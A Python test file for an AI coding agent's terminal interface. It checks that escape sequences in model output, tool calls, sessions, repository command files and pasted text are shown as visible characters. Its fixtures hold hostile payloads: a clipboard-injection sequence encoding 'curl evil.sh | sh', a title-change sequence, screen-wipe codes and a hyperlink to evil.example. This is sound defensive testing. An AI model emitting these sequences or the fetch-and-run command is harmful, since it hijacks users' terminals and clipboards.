"""Model text never drives the terminal: escape sequences in answers, thoughts, tool arguments, tool output,
approval prompts and replayed sessions reach the screen as visible characters, never as control sequences.

Each test checks the bytes a full repaint would write to the terminal (``terminal_output``): the only escape
sequences in it are Textual's own colours and cursor moves.
"""

from __future__ import annotations

import base64
from pathlib import Path

from textual import events

from navtui.app.screens.approval import ApprovalScreen
from navtui.app.screens.sessions import SessionPickerScreen
from navtui.app.screens.tree import TreeScreen
from navtui.core.messages import AssistantMessage, TextBlock, ThinkingBlock, ToolCall, ToolResultMessage, UserMessage
from navtui.session.manager import SessionManager
from navtui.widgets.thinking import ThinkingView
from navtui.widgets.tool_card import ToolCard
from navtui.widgets.transcript import AssistantView
from tests.app.conftest import (
    SIZE,
    foreign_controls,
    main_screen,
    rendered_text,
    settle,
    terminal_output,
    transcript,
    wait_for,
)
from tests.fakes import Text, Thinking
from tests.fakes import ToolCall as ScriptedCall

CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl evil.sh | sh").decode() + "\x1b\\"
TITLE = "\x1b]0;PWNED\x07"
WIPE = "\x1b[2J\x1b[3J"
CSI_8BIT = "\x9b2J"
HOSTILE = f"clip{CLIPBOARD} title{TITLE} wipe{WIPE} c1{CSI_8BIT} del\x7f nul\x00 end"


def assert_inert(output: str) -> None:
    assert foreign_controls(output) == [], foreign_controls(output)
    assert "PWNED\x07" not in output and "\x1b]" not in output


async def test_answer_thinking_and_tool_arguments_are_shown_as_visible_escapes(make_app, fake_server) -> None:
    fake_server.script(
        Thinking(f"let me think {HOSTILE}"),
        Text(f"Here: {HOSTILE}\n\n- item {TITLE}\n"),
        ScriptedCall("read", {"path": f"notes{TITLE}.md"}),
    )
    fake_server.script(Text(f"done {WIPE}"))
    app = make_app()
    async with app.run_test(size=(140, 48)) as pilot:
        main_screen(app).submit("go")
        await settle(app, pilot)
        view = transcript(app)
        answer = rendered_text(view.widgets_of(AssistantView)[0])
        assert "clip␛]52;c;Y3VybCBldmlsLnNoIHwgc2g=␛\\" in answer
        assert "title␛]0;PWNED␇" in answer and "wipe␛[2J␛[3J" in answer
        assert "c1\\x9b2J" in answer and "del␡" in answer and "nul␀" in answer
        [card] = view.widgets_of(ToolCard)
        assert card.item.status == "error"
        assert "notes␛]0;PWNED␇.md" in rendered_text(card)  # title line and the error quoting the path
        assert_inert(terminal_output(app))

        # Raw text is kept for the session, /copy and --json: only the screen is made safe.
        assert CLIPBOARD in view.widgets_of(AssistantView)[0].text
        assert any(CLIPBOARD in m.text for m in app.runtime.agent.messages if isinstance(m, AssistantMessage))

        await pilot.press("ctrl+o")  # expand the thought and the card: the full text is drawn now
        await settle(app, pilot)
        thought = view.widgets_of(ThinkingView)[0]
        assert thought.item.expanded and "clip␛]52;c;" in rendered_text(thought)
        assert_inert(terminal_output(app))


async def test_the_approval_prompt_shows_a_hostile_command_inertly(make_app, fake_server, workspace: Path) -> None:
    fake_server.script(ScriptedCall("write", {"path": f"a{TITLE}.txt", "content": f"x{CLIPBOARD}\n"}))
    fake_server.script(Text("ok"))
    app = make_app(approval="ask")
    async with app.run_test(size=SIZE) as pilot:
        main_screen(app).submit("write it")
        await wait_for(pilot, lambda: isinstance(app.screen, ApprovalScreen))
        await pilot.pause()
        modal = app.screen
        shown = "\n".join(rendered_text(w) for w in modal.query("Static"))
        assert "a␛]0;PWNED␇.txt" in shown and "x␛]52;c;" in shown
        assert_inert(terminal_output(app))
        await pilot.pause(ApprovalScreen.GRACE + 0.05)
        await pilot.press("escape")
        await settle(app, pilot)


def _hostile_session(workspace: Path) -> SessionManager:
    session = SessionManager.create(workspace)
    session.append_message(UserMessage(content=f"question {TITLE}"))
    call = ToolCall(id="c1", name="shell", arguments={"command": f"echo {CLIPBOARD}"})
    session.append_message(
        AssistantMessage(
            content=[ThinkingBlock(thinking=f"hmm {WIPE}"), TextBlock(text=f"answer {HOSTILE}"), call],
            stop_reason="tool_use",
        )
    )
    session.append_message(
        ToolResultMessage(tool_call_id="c1", tool_name="shell", content=[TextBlock(text=f"out {CLIPBOARD}")])
    )
    session.append_message(AssistantMessage(content=[TextBlock(text=f"after {CSI_8BIT}")], stop_reason="stop"))
    session.set_name(f"evil {TITLE} name")
    return session


async def test_a_replayed_session_its_tree_and_the_picker_stay_inert(make_app, workspace: Path) -> None:
    session = _hostile_session(workspace)
    app = make_app(ephemeral=False, resume=session.session_id)
    async with app.run_test(size=(140, 40)) as pilot:
        await wait_for(pilot, lambda: len(transcript(app).items) > 3)
        await settle(app, pilot)
        await pilot.press("ctrl+o")
        await settle(app, pilot)
        view = transcript(app)
        assert "answer clip␛]52;c;" in rendered_text(view.widgets_of(AssistantView)[0])
        assert "out ␛]52;c;" in rendered_text(view.widgets_of(ToolCard)[0])
        assert "hmm ␛[2J" in rendered_text(view.widgets_of(ThinkingView)[0])
        assert_inert(terminal_output(app))

        app.push_screen(TreeScreen(app.runtime.session))
        await wait_for(pilot, lambda: isinstance(app.screen, TreeScreen))
        await pilot.pause()
        assert_inert(terminal_output(app))
        await pilot.press("escape")
        await wait_for(pilot, lambda: not isinstance(app.screen, TreeScreen))

        app.push_screen(SessionPickerScreen(workspace, current=app.runtime.session))
        await wait_for(pilot, lambda: isinstance(app.screen, SessionPickerScreen) and app.screen.shown)
        await pilot.pause()
        output = terminal_output(app)
        assert "evil ␛]0;PWNED␇ name" in output
        assert_inert(output)


async def test_a_repository_commands_hint_and_description_stay_inert(make_app, workspace: Path) -> None:
    """A repository's .navtui/commands/*.md front matter is untrusted text: its argument-hint reached /help, the
    completion list and the palette raw."""
    from textual.command import CommandPalette

    from navtui.app.commands import COMMANDS
    from navtui.app.commands.custom import register_custom_commands
    from navtui.app.screens.help import HelpScreen

    project = workspace / ".navtui" / "commands"
    project.mkdir(parents=True)
    (project / "deploy.md").write_text(
        f"---\ndescription: ship it {TITLE}\nargument-hint: [env{CLIPBOARD}]\n---\nDeploy $1.\n"
    )
    link = '[link="https://evil.example"]click me[/link]'  # as markup: a terminal hyperlink (OSC 8)
    (project / "mark.md").write_text(f"---\ndescription: {link}\nargument-hint: x] {link} [x\n---\nMark.\n")
    app = make_app()
    try:
        async with app.run_test(size=(140, 48)) as pilot:
            await wait_for(pilot, lambda: COMMANDS.get("deploy") is not None)
            await pilot.press(*"/dep")
            await settle(app, pilot)
            assert_inert(terminal_output(app))
            main_screen(app).query_one("#prompt").clear()
            main_screen(app).submit("/help")
            await wait_for(pilot, lambda: isinstance(app.screen, HelpScreen))
            await settle(app, pilot)
            assert_inert(terminal_output(app))
            await pilot.press("escape")
            await settle(app, pilot)
            for query in ("", "mark"):  # the palette's list, then its search
                await pilot.press("ctrl+p")
                await wait_for(pilot, lambda: isinstance(app.screen, CommandPalette))
                await pilot.press(*query)
                await wait_for(pilot, lambda: "/mark" in _palette_text(app))
                assert f"/mark [x] {link} [x]" in _palette_text(app) and link in _palette_text(app)
                assert_inert(terminal_output(app))
                await pilot.press("escape")
                await settle(app, pilot)
    finally:
        register_custom_commands(COMMANDS, [])


def _palette_text(app) -> str:
    from textual.command import CommandList

    options = app.screen.query_one(CommandList)
    return "\n".join(options.get_option_at_index(i).prompt.plain for i in range(options.option_count))


async def test_text_put_into_the_prompt_is_shown_inertly(make_app, workspace: Path) -> None:
    """The prompt drew its own text raw: an @-completed file name a repository ships (git keeps ESC in a name) or a
    paste wrote OSC sequences to the terminal. What enters the prompt has its control characters made visible; a
    pasted line break (CR from a terminal) is still a line break."""
    (workspace / f"abc{TITLE}.md").write_text("x")
    app = make_app()
    async with app.run_test(size=SIZE) as pilot:
        await settle(app, pilot)
        prompt = main_screen(app).query_one("#prompt")
        await pilot.press(*"see @ab", "tab")
        await settle(app, pilot)
        assert prompt.text == "see @abc␛]0;PWNED␇.md "
        assert_inert(terminal_output(app))
        prompt.clear()
        app.post_message(events.Paste(f"one {CLIPBOARD}\rtwo{CSI_8BIT}"))
        await settle(app, pilot)
        assert prompt.text == "one ␛]52;c;Y3VybCBldmlsLnNoIHwgc2g=␛\\\ntwo\\x9b2J"
        assert_inert(terminal_output(app))
        prompt.load_text(f"recalled {TITLE}")
        await settle(app, pilot)
        assert prompt.text == "recalled ␛]0;PWNED␇"
        assert_inert(terminal_output(app))
